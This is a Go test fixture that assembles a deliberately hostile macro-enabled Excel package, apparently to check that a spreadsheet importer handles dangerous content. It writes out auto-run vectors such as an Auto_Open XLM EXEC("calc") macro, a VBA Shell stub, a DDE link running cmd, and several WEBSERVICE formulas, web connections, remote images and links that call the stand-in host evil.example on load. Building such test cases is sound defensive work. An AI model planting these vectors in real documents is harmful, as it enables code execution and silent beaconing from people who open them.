package importerstest

const (
	head   = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n"
	nsMain = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
	nsR    = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
	relDoc = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	relMS  = "http://schemas.microsoft.com/office/2006/relationships/"
	ctSML  = "application/vnd.openxmlformats-officedocument.spreadsheetml."
)

// rels is a .rels part: id, type, target and, for links out, "External".
func rels(rs ...[4]string) string {
	s := head + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
	for _, r := range rs {
		s += `<Relationship Id="` + r[0] + `" Type="` + r[1] + `" Target="` + esc(r[2]) + `"`
		if r[3] != "" {
			s += ` TargetMode="` + r[3] + `"`
		}
		s += `/>`
	}
	return s + `</Relationships>`
}

func constant(s string) func() string { return func() string { return s } }

// parts are Hostile's package parts.
var parts = map[string]func() string{
	"[Content_Types].xml": constant(head + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
		`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
		`<Default Extension="xml" ContentType="application/xml"/>` +
		`<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>` +
		`<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>` +
		`<Override PartName="/xl/worksheets/sheet1.xml" ContentType="` + ctSML + `worksheet+xml"/>` +
		`<Override PartName="/xl/worksheets/sheet2.xml" ContentType="` + ctSML + `worksheet+xml"/>` +
		`<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>` +
		`<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="` + ctSML + `externalLink+xml"/>` +
		`<Override PartName="/xl/externalLinks/externalLink2.xml" ContentType="` + ctSML + `externalLink+xml"/>` +
		`<Override PartName="/xl/connections.xml" ContentType="` + ctSML + `connections+xml"/>` +
		`<Override PartName="/xl/queryTables/queryTable1.xml" ContentType="` + ctSML + `queryTable+xml"/>` +
		`<Override PartName="/xl/tables/table1.xml" ContentType="` + ctSML + `table+xml"/>` +
		`<Override PartName="/xl/calcChain.xml" ContentType="` + ctSML + `calcChain+xml"/>` +
		`<Override PartName="/xl/styles.xml" ContentType="` + ctSML + `styles+xml"/>` +
		`<Override PartName="/xl/drawings/drawing1.xml" ContentType="application/vnd.openxmlformats-officedocument.drawing+xml"/>` +
		`<Override PartName="/xl/embeddings/oleObject1.bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>` +
		`</Types>`),
	"_rels/.rels": constant(rels([4]string{"rId1", relDoc + "officeDocument", "xl/workbook.xml", ""},
		[4]string{"rId2", relMS + "ui/extensibility", "customUI/customUI.xml", ""})),
	"customUI/customUI.xml": constant(`<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Evil"/>`),
	"xl/workbook.xml": constant(head + `<workbook xmlns="` + nsMain + `" xmlns:r="` + nsR + `">` +
		`<workbookPr codeName="ThisWorkbook"/><bookViews><workbookView activeTab="2"/></bookViews><sheets>` +
		`<sheet name="` + Sheet + `" sheetId="1" r:id="rId1"/><sheet name="` + Macro + `" sheetId="2" r:id="rId2"/>` +
		`<sheet name="` + Other + `" sheetId="3" r:id="rId3"/></sheets>` +
		`<externalReferences><externalReference r:id="rId4"/><externalReference r:id="rId5"/></externalReferences>` +
		`<definedNames><definedName name="Auto_Open">Macro1!$A$1</definedName>` +
		`<definedName name="Leak">HYPERLINK("http://evil.example/n","n")</definedName>` +
		`<definedName name="Remote">[1]Sheet1!$A$1</definedName>` +
		`<definedName name="_xlnm.Print_Titles" localSheetId="1">Macro1!$1:$1</definedName>` +
		`<definedName name="_xlnm.Print_Area" localSheetId="2">'` + Other + `'!$A$1:$B$3</definedName>` +
		`<definedName name="_xlnm.Print_Area" localSheetId="0">` + Sheet + `!$A$1:$I$4</definedName>` +
		`</definedNames><calcPr calcId="191029" fullCalcOnLoad="1"/></workbook>`),
	"xl/_rels/workbook.xml.rels": constant(rels([4]string{"rId1", relDoc + "worksheet", "worksheets/sheet1.xml", ""},
		[4]string{"rId2", relMS + "xlMacrosheet", "macrosheets/sheet1.xml", ""},
		[4]string{"rId3", relDoc + "worksheet", "worksheets/sheet2.xml", ""},
		[4]string{"rId4", relDoc + "externalLink", "externalLinks/externalLink1.xml", ""},
		[4]string{"rId5", relDoc + "externalLink", "externalLinks/externalLink2.xml", ""},
		[4]string{"rId6", relDoc + "connections", "connections.xml", ""},
		[4]string{"rId7", relMS + "vbaProject", "vbaProject.bin", ""},
		[4]string{"rId8", relDoc + "calcChain", "calcChain.xml", ""},
		[4]string{"rId9", relDoc + "styles", "styles.xml", ""})),
	"xl/worksheets/sheet1.xml": func() string {
		return sheetXML(Sheet, `<conditionalFormatting sqref="A2:A4"><cfRule type="expression" priority="1">`+
			`<formula>WEBSERVICE("http://evil.example/cf")</formula></cfRule></conditionalFormatting>`+
			`<dataValidations count="1"><dataValidation type="list" sqref="C2:C4">`+
			`<formula1>WEBSERVICE("http://evil.example/dv")</formula1></dataValidation></dataValidations>`+
			`<hyperlinks><hyperlink ref="A2" r:id="rId1"/></hyperlinks>`+
			`<oleObjects><oleObject progId="Package" shapeId="1025" r:id="rId2"/></oleObjects>`)
	},
	"xl/worksheets/_rels/sheet1.xml.rels": constant(rels([4]string{"rId1", relDoc + "hyperlink", "http://evil.example/h", "External"},
		[4]string{"rId2", relDoc + "oleObject", "../embeddings/oleObject1.bin", ""})),
	"xl/worksheets/sheet2.xml": func() string {
		return sheetXML(Other, `<hyperlinks><hyperlink ref="A2" r:id="rId1"/>`+
			`<hyperlink ref="A3" location="'`+Sheet+`'!A1" display="`+Sheet+`"/></hyperlinks>`+
			`<drawing r:id="rId3"/><tableParts count="1"><tablePart r:id="rId2"/></tableParts>`)
	},
	"xl/worksheets/_rels/sheet2.xml.rels": constant(rels([4]string{"rId1", relDoc + "hyperlink", "mailto:evil@evil.example", "External"},
		[4]string{"rId2", relDoc + "table", "../tables/table1.xml", ""},
		[4]string{"rId3", relDoc + "drawing", "../drawings/drawing1.xml", ""})),
	// A picture fetched from the web on opening, which links out when clicked.
	"xl/drawings/drawing1.xml": constant(head + `<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" ` +
		`xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="` + nsR + `"><xdr:oneCellAnchor>` +
		`<xdr:from><xdr:col>3</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>` +
		`<xdr:ext cx="914400" cy="457200"/><xdr:pic><xdr:nvPicPr><xdr:cNvPr id="2" name="logo"><a:hlinkClick r:id="rId2"/>` +
		`</xdr:cNvPr><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip r:link="rId1"/><a:stretch><a:fillRect/></a:stretch>` +
		`</xdr:blipFill><xdr:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr></xdr:pic><xdr:clientData/>` +
		`</xdr:oneCellAnchor></xdr:wsDr>`),
	"xl/drawings/_rels/drawing1.xml.rels": constant(rels([4]string{"rId1", relDoc + "image", "http://evil.example/pixel.png", "External"},
		[4]string{"rId2", relDoc + "hyperlink", "http://evil.example/d", "External"})),
	"xl/tables/table1.xml": constant(head + `<table xmlns="` + nsMain + `" id="1" name="Evil" displayName="Evil" ref="A1:B3" ` +
		`tableType="queryTable" connectionId="1" totalsRowShown="0"><autoFilter ref="A1:B3"/><tableColumns count="2">` +
		`<tableColumn id="1" uniqueName="1" name="항목" queryTableFieldId="1"/>` +
		`<tableColumn id="2" uniqueName="2" name="값" queryTableFieldId="2">` +
		`<calculatedColumnFormula>WEBSERVICE("http://evil.example/t")</calculatedColumnFormula></tableColumn>` +
		`</tableColumns><tableStyleInfo name="TableStyleMedium2" showFirstColumn="0" showLastColumn="0" ` +
		`showRowStripes="1" showColumnStripes="0"/></table>`),
	"xl/tables/_rels/table1.xml.rels": constant(rels([4]string{"rId1", relDoc + "queryTable", "../queryTables/queryTable1.xml", ""})),
	"xl/queryTables/queryTable1.xml": constant(head + `<queryTable xmlns="` + nsMain + `" name="evil" connectionId="1" ` +
		`autoFormatId="16" applyNumberFormats="0" applyBorderFormats="0" applyFontFormats="0" applyPatternFormats="0" ` +
		`applyAlignmentFormats="0" applyWidthHeightFormats="0"><queryTableRefresh nextId="3"><queryTableFields count="2">` +
		`<queryTableField id="1" name="항목" tableColumnId="1"/><queryTableField id="2" name="값" tableColumnId="2"/>` +
		`</queryTableFields></queryTableRefresh></queryTable>`),
	"xl/connections.xml": constant(head + `<connections xmlns="` + nsMain + `"><connection id="1" name="evil" type="4" ` +
		`refreshedVersion="6" background="1" refreshOnLoad="1"><webPr url="http://evil.example/data" htmlTables="1"/>` +
		`</connection></connections>`),
	"xl/externalLinks/externalLink1.xml": constant(head + `<externalLink xmlns="` + nsMain + `" xmlns:r="` + nsR + `">` +
		`<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0">` +
		`<row r="1"><cell r="A1"><v>42</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>`),
	"xl/externalLinks/_rels/externalLink1.xml.rels": constant(rels([4]string{"rId1", relDoc + "externalLinkPath",
		"http://evil.example/other.xlsx", "External"})),
	"xl/externalLinks/externalLink2.xml": constant(head + `<externalLink xmlns="` + nsMain + `"><ddeLink ddeService="cmd" ` +
		`ddeTopic="/c calc"><ddeItems><ddeItem name="A1" advise="1"/></ddeItems></ddeLink></externalLink>`),
	"xl/macrosheets/sheet1.xml": constant(head + `<xm:macrosheet xmlns="` + nsMain + `" ` +
		`xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>` +
		`<row r="1"><c r="A1"><f>EXEC("calc")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row>` +
		`</sheetData></xm:macrosheet>`),
	"xl/vbaProject.bin":            constant("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Sub AutoOpen(): Shell \"calc\": End Sub"),
	"xl/embeddings/oleObject1.bin": constant("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 ole package"),
	"xl/calcChain.xml":             constant(head + `<calcChain xmlns="` + nsMain + `"><c r="A2" i="1"/><c r="D2"/><c r="F2"/></calcChain>`),
	"xl/styles.xml": constant(head + `<styleSheet xmlns="` + nsMain + `"><fonts count="1"><font><sz val="11"/>` +
		`<name val="Calibri"/></font></fonts><fills count="2"><fill><patternFill patternType="none"/></fill><fill>` +
		`<patternFill patternType="gray125"/></fill></fills><borders count="1"><border><left/><right/><top/><bottom/>` +
		`<diagonal/></border></borders><cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/>` +
		`</cellStyleXfs><cellXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/></cellXfs>` +
		`<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles></styleSheet>`),
}
